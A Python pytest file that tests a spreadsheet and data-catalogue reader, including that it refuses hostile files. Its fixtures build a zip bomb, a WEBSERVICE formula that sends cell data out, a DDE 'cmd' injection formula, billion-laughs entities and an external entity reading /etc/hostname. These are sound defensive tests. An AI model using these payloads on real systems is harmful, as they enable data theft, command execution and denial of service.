"""The readers: real numbers of rows and columns, any encoding, and a clear word for what may not be read."""

from __future__ import annotations

import contextlib
import json
import re
import struct
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helixatlas.errors import InputError
from helixatlas.ingest.readers import CellError, Table, read_tables


def _only(path: Path) -> Table:
    (table,) = read_tables(path)
    return table


def _workbook(path: Path) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["B3"], sheet["C3"] = "Name", "Since"
    sheet["B4"], sheet["C4"] = "Alpha", 2015
    sheet["D4"] = "#NAME?"
    sheet["D4"].data_type = "e"
    sheet["E4"] = "=1+1"
    sheet.merge_cells("B5:B6")
    book.create_sheet("hidden one").sheet_state = "hidden"
    book.save(path)
    return path


def test_a_cell_keeps_its_row_and_column_below_title_rows(tmp_path: Path) -> None:
    table = next(iter(read_tables(_workbook(tmp_path / "a.xlsx"))))
    assert table.cell(3, 1) == "Alpha"
    assert table.cell(0, 0) in ("", None)


def test_formula_errors_and_missing_results_are_seen(tmp_path: Path) -> None:
    table = next(iter(read_tables(_workbook(tmp_path / "a.xlsx"))))
    assert table.cell(3, 3) == CellError("#NAME?")
    assert isinstance(table.cell(3, 3), CellError)
    assert table.cell(3, 4) == CellError("#EMPTY")


def test_hidden_sheets_and_merged_ranges_are_told(tmp_path: Path) -> None:
    first, second = read_tables(_workbook(tmp_path / "a.xlsx"))
    assert (first.hidden, second.hidden) == (False, True)
    assert first.merged == [(4, 1, 5, 1)]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1250", "cp1252"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_any_delimiter_and_encoding_gives_the_same_table(tmp_path: Path, encoding: str, delimiter: str) -> None:
    words = ["Županija", "Đurđevac", "Čakovec"] if encoding == "cp1250" else ["Città", "Région", "Größe"]
    rows = [["Name", "Place", "Size"], [words[0], words[1], "1"], [words[2], "x", "2"], ["a", "b", "3"]]
    path = tmp_path / "a.csv"
    path.write_bytes("\r\n".join(delimiter.join(row) for row in rows).encode(encoding))
    assert _only(path).rows == rows


def test_geojson_becomes_one_row_for_each_feature(tmp_path: Path) -> None:
    path = tmp_path / "a.geojson"
    feature = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [12.5, 45.4]}}
    one = {**feature, "properties": {"name": "A", "tags": ["x", "y"], "more": {"deep": 1}}}
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [one]}), encoding="utf-8")
    assert _only(path).rows == [["name", "tags", "more.deep", "latitude", "longitude"], ["A", "x | y", 1, 45.4, 12.5]]


@pytest.mark.parametrize(("ending", "text"), [
    ("ttl", ('@prefix dcat: <http://www.w3.org/ns/dcat#> . @prefix dct: <http://purl.org/dc/terms/> .\n'
            '<http://e.org/d> a dcat:Dataset ; dct:title "Dati"@it ; dct:publisher [ dct:title "Comune" ] .')),
    ("jsonld", json.dumps({"@id": "http://e.org/d", "@type": "http://www.w3.org/ns/dcat#Dataset",
                           "http://purl.org/dc/terms/title": {"@value": "Dati", "@language": "it"},
                           "http://purl.org/dc/terms/publisher": {"http://purl.org/dc/terms/title": "Comune"}})),
    ("rdf", ('<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dct="http://purl.org/dc/terms/" '
            'xmlns:dcat="http://www.w3.org/ns/dcat#"><dcat:Dataset rdf:about="http://e.org/d"><dct:title xml:lang="it">'
            'Dati</dct:title><dct:publisher><rdf:Description><dct:title>Comune</dct:title></rdf:Description>'
            '</dct:publisher></dcat:Dataset></rdf:RDF>')),
])  # fmt: skip
def test_a_catalogue_reads_the_same_in_every_syntax(tmp_path: Path, ending: str, text: str) -> None:
    path = tmp_path / f"a.{ending}"
    path.write_text(text, encoding="utf-8")
    table = _only(path)
    assert table.sheet == "datasets"
    assert table.rows == [["iri", "dct:publisher > dct:title", "dct:title@it"], ["http://e.org/d", "Comune", "Dati"]]


def _bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as stream:
            for _ in range(300):
                stream.write(b"\0" * 1_000_000)
        archive.writestr("xl/workbook.xml", "<workbook/>")


def _wide(path: Path) -> None:
    book = openpyxl.Workbook()
    book.active["XFD1048576"] = 1
    book.active["A1"] = 1
    book.save(path)


def _macro(path: Path) -> None:
    _workbook(path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"x")


def _sheets(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(10_000):
            archive.writestr(f"xl/worksheets/sheet{number}.xml", "<worksheet/>")


def _encrypted(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"))


def _truncated(path: Path) -> None:
    data = _workbook(path).read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _picture(path: Path) -> None:
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\0" * 40)


def _nothing(path: Path) -> None:
    path.write_bytes(b"")


def _calling(path: Path) -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["A1"] = '=WEBSERVICE("https://example.org/?"&A2)'
    book.save(path)


def _exchanging(path: Path) -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["A1"] = "=cmd|'/C calc'!A0"
    book.save(path)


def _far_place(path: Path) -> None:
    _workbook(path)
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    with zipfile.ZipFile(path, "w") as new:
        for name, data in parts.items():
            new.writestr(name, re.sub(rb'<c r="[A-Z]+', b'<c r="ABCDEF', data) if "worksheets/" in name else data)


HOSTILE = [
    _bomb, _wide, _macro, _sheets, _encrypted, _truncated, _picture, _nothing, _calling, _exchanging, _far_place
]  # fmt: skip
PROBE = """
import resource, sys
from pathlib import Path
from helixatlas.errors import InputError
from helixatlas.ingest.readers import read_tables
try:
    print(10**6 + sum(len(table.rows) for table in read_tables(Path(sys.argv[1]))))
except InputError:
    # A process starts with the peak of the one it was made by: Linux tells its own apart.
    own = Path("/proc/self/status")
    lines = own.read_text().splitlines() if own.is_file() else []
    peaks = [int(line.split()[1]) for line in lines if line.startswith("VmHWM:")]
    print((peaks or [resource.getrusage(resource.RUSAGE_SELF).ru_maxrss])[0] // 1024)
"""


@pytest.mark.parametrize("make", [_bomb, _wide, _sheets, _far_place])
def test_a_hostile_file_is_refused_in_little_memory(tmp_path: Path, make: object) -> None:
    path = tmp_path / "a.xlsx"
    make(path)  # type: ignore[operator]
    done = subprocess.run([sys.executable, "-c", PROBE, str(path)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) < 500


def test_a_document_whose_table_never_ends_is_refused(tmp_path: Path) -> None:
    names = ("office", "table", "text")
    head = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in names)
    body = '<table:table table:name="A"><table:table-row/></table:tabel>'
    content = f"<office:document-content {head}><office:body><office:spreadsheet>{body}</office:spreadsheet>"
    with zipfile.ZipFile(tmp_path / "a.ods", "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", f"{content}</office:body></office:document-content>")
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
    with pytest.raises(InputError, match="damaged"):
        list(read_tables(tmp_path / "a.ods"))


@pytest.mark.parametrize("make", HOSTILE)
def test_a_hostile_or_broken_file_is_refused_in_a_sentence(tmp_path: Path, make: object) -> None:
    path = tmp_path / "a.xlsx"
    make(path)  # type: ignore[operator]
    started = time.monotonic()
    with pytest.raises(InputError) as caught:
        list(read_tables(path))
    assert time.monotonic() - started < 5
    assert "a.xlsx" in str(caught.value)
    assert caught.value.hint


@pytest.mark.parametrize(("serial", "form"), [(1e300, "[h]:mm:ss"), (-1e12, "yyyy-mm-dd")])
def test_an_impossible_date_is_refused_and_does_not_end_the_program(tmp_path: Path, serial: float, form: str) -> None:
    path = tmp_path / "a.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"], sheet["A2"] = "Since", serial
    sheet["A2"].number_format = form
    book.save(path)
    with pytest.raises(InputError, match="damaged"):
        list(read_tables(path))


def _looping(path: Path) -> None:
    """Write an old binary workbook whose directory chain leads from its sector back to itself."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    header += struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    table = struct.pack("<128I", 0xFFFFFFFD, 1, *[0xFFFFFFFF] * 126)
    path.write_bytes(header + table + b"\0" * 512)


@pytest.mark.timeout(60)
def test_an_old_workbook_whose_chain_loops_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "a.xls"
    _looping(path)
    with pytest.raises(InputError, match="damaged"):
        list(read_tables(path))


def _entities(definitions: str, about: str) -> str:
    head = f'<?xml version="1.0"?><!DOCTYPE rdf:RDF [{definitions}]>'
    names = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dcat="http://www.w3.org/ns/dcat#"'
    return f'{head}<rdf:RDF {names}><dcat:Dataset rdf:about="{about}"/></rdf:RDF>'


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "definitions",
    [
        "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(12)),
        '<!ENTITY x SYSTEM "file:///etc/hostname">',
    ],
)
def test_entities_that_grow_or_fetch_are_refused(tmp_path: Path, definitions: str) -> None:
    path = tmp_path / "a.rdf"
    path.write_text(_entities(definitions, "http://e.org/d"), encoding="utf-8")
    with pytest.raises(InputError, match="entities"):
        list(read_tables(path))


def test_entities_that_shorten_namespaces_are_read(tmp_path: Path) -> None:
    path = tmp_path / "a.rdf"
    path.write_text(_entities('<!ENTITY e "http://e.org/">', "&e;d"), encoding="utf-8")
    assert _only(path).rows == [["iri"], ["http://e.org/d"]]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    data=st.binary(max_size=400), ending=st.sampled_from(["csv", "xlsx", "ods", "xls", "json", "ttl", "rdf", "jsonld"])
)
def test_no_bytes_crash_a_reader(tmp_path: Path, data: bytes, ending: str) -> None:
    path = tmp_path / f"a.{ending}"
    path.write_bytes(data)
    with contextlib.suppress(InputError):  # the one error a reader may raise
        list(read_tables(path))


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(place=st.integers(0, 4000), byte=st.integers(0, 255), cut=st.integers(0, 300))
def test_a_damaged_workbook_never_crashes_the_reader(tmp_path: Path, place: int, byte: int, cut: int) -> None:
    path = tmp_path / "a.xlsx"
    data = bytearray(_workbook(path).read_bytes())
    data[place % len(data)] = byte
    path.write_bytes(data[: len(data) - cut])
    with contextlib.suppress(InputError):  # the one error a reader may raise
        list(read_tables(path))


def test_merged_cells_of_an_open_document_sheet_are_known(tmp_path: Path) -> None:
    cell = '<table:table-cell office:value-type="string"{}><text:p>{}</text:p></table:table-cell>'.format
    rows = (
        cell(' table:number-columns-spanned="2" table:number-rows-spanned="1"', "Wide") + "<table:covered-table-cell/>",
        cell(' table:number-rows-spanned="3"', "Plan") + cell("", "a"),
        "<table:covered-table-cell/>" + cell("", "b"),
        "<table:covered-table-cell/>" + cell("", "c"),
    )
    body = "".join(f"<table:table-row>{row}</table:table-row>" for row in rows)
    spaces = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
                      for name in ("office", "table", "text"))  # fmt: skip
    text = (f"<office:document-content {spaces}><office:body><office:spreadsheet>"
            f'<table:table table:name="A">{body}</table:table>'
            "</office:spreadsheet></office:body></office:document-content>")  # fmt: skip
    with zipfile.ZipFile(tmp_path / "a.ods", "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
        archive.writestr("content.xml", text)
    (table,) = read_tables(tmp_path / "a.ods")
    assert [row[1] for row in table.rows[1:]] == ["a", "b", "c"]
    assert table.merged == [(0, 0, 0, 1), (1, 0, 3, 0)]


def test_a_password_is_told_of_old_and_open_workbooks_too(tmp_path: Path) -> None:
    begins = b"\x09\x08\x10\x00" + b"\0" * 16
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + begins + b"\x2f\x00\x36\x00" + b"\1" * 54
    (tmp_path / "a.xls").write_bytes(old)
    with zipfile.ZipFile(tmp_path / "a.ods", "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", '<manifest><encryption-data checksum="x"/></manifest>')
        archive.writestr("content.xml", b"\x93\x11\xff")
    for name in ("a.xls", "a.ods"):
        with pytest.raises(InputError, match="protected by a password"):
            list(read_tables(tmp_path / name))
